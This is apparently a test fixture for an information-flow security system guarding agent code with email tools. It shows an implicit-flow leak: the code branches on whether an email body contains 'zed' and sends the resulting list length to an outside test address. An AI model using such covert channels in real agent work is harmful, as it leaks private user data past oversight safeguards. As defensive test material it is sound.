// attack: mutate a nested container (o.inner.list) in a NOT-taken branch
// normal: leaks (implicit flow, allowed in NORMAL mode)
const m = await getEmail('m1');
const o = { inner: { list: [] } };
if (!m.body.includes('zed')) {
  o.inner.list.push('x');
}
await sendEmail({ to: ['omar@northwind.test'], subject: 'len', body: 'n=' + o.inner.list.length });
